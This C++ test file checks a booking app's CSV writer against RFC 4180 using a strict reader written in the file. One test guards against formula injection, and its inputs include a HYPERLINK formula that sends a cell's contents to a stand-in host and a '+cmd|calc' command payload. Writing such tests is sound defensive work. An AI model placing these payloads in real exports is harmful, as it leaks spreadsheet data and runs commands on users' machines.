// The CSV writer against RFC 4180, checked by reading its output back with a
// strict reader written here (independent of the writer's code).
#include <gtest/gtest.h>

#include <sstream>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "core/export/csv.hpp"

namespace {

using Records = std::vector<std::vector<std::string>>;

// A strict RFC 4180 reader: every record ends with CRLF, a quoted field may
// hold anything with its quotes doubled, an unquoted one holds no comma, quote,
// CR or LF. Throws on anything else, so sloppy output fails the tests.
Records read_csv(std::string_view text) {
    Records records;
    std::size_t i = 0;
    while (i < text.size()) {
        std::vector<std::string> record;
        for (;;) {
            std::string field;
            if (i < text.size() && text[i] == '"') {
                ++i;
                for (;;) {
                    if (i >= text.size()) throw std::runtime_error("unterminated quoted field");
                    if (text[i] == '"') {
                        if (i + 1 < text.size() && text[i + 1] == '"') {
                            field += '"';
                            i += 2;
                            continue;
                        }
                        ++i;
                        break;
                    }
                    field += text[i++];
                }
            } else {
                while (i < text.size() && text[i] != ',' && text[i] != '\r' && text[i] != '\n') {
                    if (text[i] == '"') throw std::runtime_error("quote inside an unquoted field");
                    field += text[i++];
                }
            }
            record.push_back(std::move(field));
            if (i < text.size() && text[i] == ',') {
                ++i;
                continue;
            }
            if (text.substr(i, 2) != "\r\n") throw std::runtime_error("record not ended by CRLF");
            i += 2;
            break;
        }
        records.push_back(std::move(record));
    }
    return records;
}

std::string write_rows(const Records& rows) {
    std::ostringstream out;
    booking::CsvWriter csv(out);
    for (const auto& row : rows) {
        const std::vector<std::string_view> fields(row.begin(), row.end());
        csv.row(fields);
    }
    return out.str();
}

TEST(CsvReaderSelfCheck, RejectsWhatRfc4180Forbids) {
    EXPECT_THROW(read_csv("a,b\n"), std::runtime_error);
    EXPECT_THROW(read_csv("a\"b\r\n"), std::runtime_error);
    EXPECT_THROW(read_csv("\"ab\r\n"), std::runtime_error);
    EXPECT_EQ(read_csv("a,\"b,\"\"c\"\r\n"), (Records{{"a", "b,\"c"}}));
}

TEST(CsvWriter, PlainFieldsAreNotQuotedAndRecordsEndWithCrlf) {
    std::ostringstream out;
    booking::CsvWriter csv(out);
    csv.row({"id", "name", "two words", " padded "});
    csv.row({"1", "", "x"});
    EXPECT_EQ(out.str(), "id,name,two words, padded \r\n1,,x\r\n");
}

TEST(CsvWriter, QuotesOnlyFieldsWithCommaQuoteCrOrLf) {
    std::ostringstream out;
    booking::CsvWriter csv(out);
    csv.row({"a,b", "say \"hi\"", "one\r\ntwo", "cr\rhere", "lf\nhere", "plain"});
    EXPECT_EQ(out.str(),
              "\"a,b\",\"say \"\"hi\"\"\",\"one\r\ntwo\",\"cr\rhere\",\"lf\nhere\",plain\r\n");
}

TEST(CsvWriter, AFieldOfOnlyQuotesIsDoubled) {
    std::ostringstream out;
    booking::CsvWriter csv(out);
    csv.row({"\"", "\"\""});
    EXPECT_EQ(out.str(), "\"\"\"\",\"\"\"\"\"\"\r\n");
}

TEST(CsvWriter, VectorAndListOverloadsWriteTheSame) {
    std::ostringstream list_out;
    booking::CsvWriter(list_out).row({"a", "b,c", "", "d\"e"});
    std::ostringstream vector_out;
    booking::CsvWriter(vector_out).row(std::vector<std::string_view>{"a", "b,c", "", "d\"e"});
    EXPECT_EQ(list_out.str(), vector_out.str());
    EXPECT_EQ(list_out.str(), "a,\"b,c\",,\"d\"\"e\"\r\n");
}

TEST(CsvWriter, TrickyFieldsRoundTrip) {
    const Records rows = {
        {"id", "notes", "name"},
        {"1", "comma, inside", "Zoë Ångström"},
        {"2", "\"quoted\" at both ends\"", "日本語のテキスト"},
        {"3", "multi\r\nline\nwith\rbreaks", "emoji 😀"},
        {"4", "", ""},
        {"", "", ""},
        {"5", ",,,", "\"\""},
        {"6", "trailing comma,", "x\r\n"},
        {"7", "  spaces kept  ", "tab\tinside"},
        {"8", "lone\rcarriage return", "lone\nline feed"},
    };
    EXPECT_EQ(read_csv(write_rows(rows)), rows);
}

// SPEC §5: what a spreadsheet would run as a formula is written after a '.
TEST(CsvWriter, AFieldThatWouldRunAsAFormulaGetsAQuoteMarkBeforeIt) {
    const Records rows = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|calc", "-2+3", "@SUM(A1)"},
        {"\tTAB first", "\rCR first", "\r\nCRLF first", "a=b+c-d@e"},
        {"", "'already", "-", "plain"},
    };
    const std::string text = write_rows(rows);
    const Records expected = {
        {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+cmd|calc", "'-2+3", "'@SUM(A1)"},
        {"'\tTAB first", "'\rCR first", "'\r\nCRLF first", "a=b+c-d@e"},
        {"", "'already", "'-", "plain"},
    };
    EXPECT_EQ(read_csv(text), expected) << text;
    // The quote mark goes inside the quotes of a quoted field.
    EXPECT_EQ(text.substr(0, 3), "\"'=") << text;
    EXPECT_NE(text.find(",'+cmd|calc,"), std::string::npos) << text;
}

TEST(CsvWriter, ARecordOfOneEmptyFieldIsNotABlankLine) {
    const Records rows = {{"a"}, {""}, {"b"}};
    const std::string text = write_rows(rows);
    EXPECT_EQ(text.find("\r\n\r\n"), std::string::npos) << text;
    EXPECT_EQ(read_csv(text), rows);
}

TEST(CsvWriter, ManyRowsStreamIntoOneValidDocument) {
    Records rows;
    for (int i = 0; i < 2000; ++i) {
        rows.push_back(
            {std::to_string(i), i % 3 == 0 ? "a,\"b\"\r\n" : "plain", std::string(i % 7, 'x')});
    }
    EXPECT_EQ(read_csv(write_rows(rows)), rows);
}

}  // namespace
